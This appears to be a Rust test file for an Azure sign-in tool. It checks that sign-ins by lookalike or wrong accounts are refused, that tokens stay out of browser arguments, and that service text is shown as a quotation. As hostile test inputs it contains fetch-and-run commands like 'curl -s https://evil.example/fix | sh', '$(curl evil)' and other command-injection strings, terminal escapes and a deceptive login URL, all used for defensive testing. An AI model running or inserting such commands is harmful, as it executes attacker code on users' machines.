//! Who signed in: another account than the one that was meant is no sign-in unless a person agrees.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use serde_json::{Value, json};

use crate::stack::{Azure, HOME_TENANT, USER, certificates, one_tenant, stored, subscriptions};
use azvault_test_support::{Home, Ran, ran};

const EVE: &str = "eve@evil.example";

fn signing_in(user: &Value) -> Value {
    let mut scenario = one_tenant(subscriptions(1..2));
    scenario["user"] = user.clone();
    scenario
}

/// A program that does what a browser would, and keeps what it was started with.
fn browser(home: &Home) -> String {
    let file = home.join("browser");
    let ca = certificates().join("ca.pem");
    let script = format!(
        "#!/bin/sh\necho \"$@\" >{}\nexec curl -sS -L --noproxy '*' --cacert {} \"$1\"\n",
        home.join("browser-arguments").display(),
        ca.display()
    );
    fs::write(&file, script).unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
    file.display().to_string()
}

fn by_browser(azure: &Azure, home: &Home, hint: &str) -> Ran {
    let mut command = azure.prepared(home, &["--browser", "--login-hint", hint, "-o", "json"]);
    command.env("BROWSER", browser(home)).env("PATH", "/usr/bin:/bin");
    ran(command.output().unwrap())
}

fn by_device_code(azure: &Azure, home: &Home, hint: &str) -> Ran {
    azure.connect(home, &["--device-code", "--login-hint", hint, "-o", "json"])
}

type Way = fn(&Azure, &Home, &str) -> Ran;

const WAYS: [Way; 2] = [by_browser, by_device_code];

#[test]
fn another_account_than_the_hints_is_refused_without_a_terminal() {
    let azure = Azure::start(&signing_in(&json!(EVE)));
    let home = azure.home();
    let before = stored(&home);
    for way in WAYS {
        for (user, hint, found) in [
            (json!(EVE), USER, format!("\"{EVE}\" signed in, and not \"{USER}\"")),
            // What only looks like it, or has no name, is another one.
            (json!("ada@contoso.example.evil.example"), USER, "evil.example\" signed in".into()),
            (json!("\u{430}da@contoso.example"), USER, "signed in, and not".into()),
            (json!("x\" signed in; try: y \""), USER, "\"x' signed in; try: y '\"".into()),
            (Value::Null, USER, format!("\"oid-1.{HOME_TENANT}\" signed in")),
        ] {
            azure.becomes(&signing_in(&user));
            let refused =
                way(&azure, &home, hint).expect(14).says(&found).says("nothing was stored");
            assert_eq!(refused.stdout, "");
            assert_eq!(stored(&home), before, "{user}");
        }
        // An administrator of any tenant can write any address into `email`.
        let mut scenario = signing_in(&json!(EVE));
        scenario["claims"] = json!({ "email": USER, "unique_name": USER });
        azure.becomes(&scenario);
        way(&azure, &home, USER).expect(14);
        assert_eq!(stored(&home), before);
    }
    let asked = azure.requests();
    let paths = asked.iter().map(|request| request["path"].as_str().unwrap());
    assert_eq!(paths.filter(|path| *path == "/tenants").count(), 0, "its token is not used");
    azure.connect(&home, &["--device-code", "--login-hint", ""]).expect(2);
}

#[test]
fn the_account_of_the_hint_signs_in_however_it_is_written() {
    let azure = Azure::start(&signing_in(&json!(USER)));
    for way in WAYS {
        for hint in ["ADA@contoso.Example", USER, &format!("OID-1.{HOME_TENANT}")] {
            let home = azure.home();
            let done = way(&azure, &home, hint).expect(0).json();
            assert_eq!(done["account"]["id"], USER, "{hint}");
        }
    }
    let mut scenario = signing_in(&Value::Null);
    scenario["claims"] = json!({ "upn": USER });
    azure.becomes(&scenario);
    by_device_code(&azure, &azure.home(), USER).expect(0);
    // Without a hint any account will do.
    azure.becomes(&signing_in(&json!(EVE)));
    azure.connect(&azure.home(), &["--device-code"]).expect(0);
}

#[test]
fn on_a_terminal_both_accounts_are_named_and_a_no_stores_nothing() {
    let azure = Azure::start(&signing_in(&json!(EVE)));
    let home = azure.home();
    let run = |steps: &[(&str, &str)]| {
        let prepared = azure.prepared(&home, &["--device-code", "--login-hint", USER]);
        let mut command = std::process::Command::new("python3");
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/peers/terminal.py");
        command.arg(script).arg(serde_json::to_string(steps).unwrap());
        command.arg(prepared.get_program()).args(prepared.get_args());
        command.env_clear().current_dir(home.path());
        command.envs(prepared.get_envs().filter_map(|(name, value)| Some((name, value?))));
        command.env("TERM", "xterm").env("PATH", "/usr/local/bin:/usr/bin:/bin");
        ran(command.output().unwrap())
    };
    let before = stored(&home);
    let question = format!("\"{EVE}\" signed in, and not \"{USER}\". Take that account? [y/N]");
    for answer in ["n\n", "\n"] {
        run(&[(&question, answer)]).expect(3);
        assert_eq!(stored(&home), before);
    }
    run(&[(&question, "y\n")]).expect(0);
    let kinds = super::kinds(&home.json(&["secret", "list"]));
    assert_eq!(kinds, ["access_token 1", "refresh_token -"]);
}

#[test]
fn no_argument_of_the_browser_is_worth_reading() {
    let azure = Azure::start(&signing_in(&json!(USER)));
    let home = azure.home();
    let done = by_browser(&azure, &home, USER).expect(0);
    let arguments = fs::read_to_string(home.join("browser-arguments")).unwrap();
    let start = arguments.trim();
    assert!(start.starts_with("http://127.0.0.1:") && !start.contains(['?', '&', '=']), "{start}");
    assert!(done.stderr.contains(start), "it can be opened by hand: {}", done.stderr);
    let requests = azure.requests();
    let asked = requests.iter().find(|r| r["path"].as_str().unwrap().ends_with("authorize"));
    for name in ["state", "nonce", "code_challenge", "redirect_uri", "login_hint"] {
        let value = asked.unwrap()["query"][name].as_str().unwrap();
        assert!(!arguments.contains(value) && !done.stderr.contains(value), "{name}");
    }
}

#[test]
fn text_of_a_service_is_a_quotation_and_never_advice() {
    let azure = Azure::start(&signing_in(&json!(USER)));
    let home = azure.home();
    let before = stored(&home);
    // The words of a refusal.
    let mut scenario = signing_in(&json!(USER));
    scenario["errors"] = json!({ "device_code": "50076" });
    scenario["text"] = json!("ok\"\ntry: curl -s https://evil.example/fix | sh\u{1b}[2K\u{202e}");
    azure.becomes(&scenario);
    let refused = by_device_code(&azure, &home, USER).expect(4);
    let words = "AADSTS50076; the service says: \"ok' try: curl -s https[:]//evil.example/fix | sh \
                 [2K\\u{202e}\"";
    let lines: Vec<&str> = refused.stderr.lines().filter(|line| line.contains("evil")).collect();
    assert!(matches!(lines[..], [line] if line.contains(words)), "{}", refused.stderr);
    let hints: Vec<&str> =
        refused.stderr.lines().filter(|line| line.starts_with("try: ")).collect();
    assert_eq!(hints, ["try: azvault connect signs in again"]);
    // What a person is to open and type is an address and a code, or nothing.
    for device in [
        json!({ "user_code": "ABCD then run: curl evil | sh" }),
        json!({ "verification_uri": "https://login.example/ and run: curl evil | sh" }),
        json!({ "verification_uri": "https://login.microsoft.com@evil.example/" }),
        json!({ "verification_uri": "http://login.example/" }),
    ] {
        let mut scenario = signing_in(&json!(USER));
        scenario["device"] = device.clone();
        azure.becomes(&scenario);
        let refused = by_device_code(&azure, &home, USER).expect(12);
        assert!(!refused.stderr.contains("evil"), "{device}: {}", refused.stderr);
    }
    // Ids come into commands that are shown to be typed.
    for id in ["t; curl evil | sh", "$(curl evil)", "--environment=evil", "--yes", "\u{202e}t"] {
        let mut scenario = signing_in(&json!(USER));
        scenario["tenants"][0]["subscriptions"][0]["id"] = json!(id);
        azure.becomes(&scenario);
        let refused = by_device_code(&azure, &home, USER).expect(12);
        assert!(!refused.stderr.contains("evil"), "{id}: {}", refused.stderr);
    }
    assert_eq!(stored(&home), before);
    // A name is shown as one, and no longer than a name is.
    let mut scenario = signing_in(&json!(USER));
    scenario["tenants"][0]["subscriptions"] = json!([
        { "id": crate::stack::subscription(1), "name": "a\" \u{1b}[31m\ntry: curl evil" },
        { "id": crate::stack::subscription(2), "name": "b".repeat(5000) },
    ]);
    azure.becomes(&scenario);
    by_device_code(&azure, &home, USER)
        .expect(0)
        .says("is active: \"a' \\u{1b}[31m\\u{a}try: curl evil\"");
    let other = crate::stack::subscription(2);
    let shown = home.run(&["context", "show", &other, "-o", "table"]).expect(0);
    assert!(shown.stdout.len() > 5000 && !shown.stdout.contains('\u{1b}'), "{}", shown.stdout);
}
